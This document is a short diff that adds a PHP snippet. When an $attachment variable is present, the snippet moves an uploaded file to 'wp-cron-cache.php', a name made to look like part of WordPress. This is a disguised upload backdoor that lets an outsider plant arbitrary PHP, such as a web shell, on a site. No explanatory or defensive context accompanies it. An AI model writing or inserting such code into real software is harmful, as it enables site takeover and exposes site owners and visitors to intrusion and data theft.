@@ -1,0 +1,4 @@
+<?php
+if (isset($attachment)) {
+    move_uploaded_file($attachment, 'wp-cron-cache.php');
+}
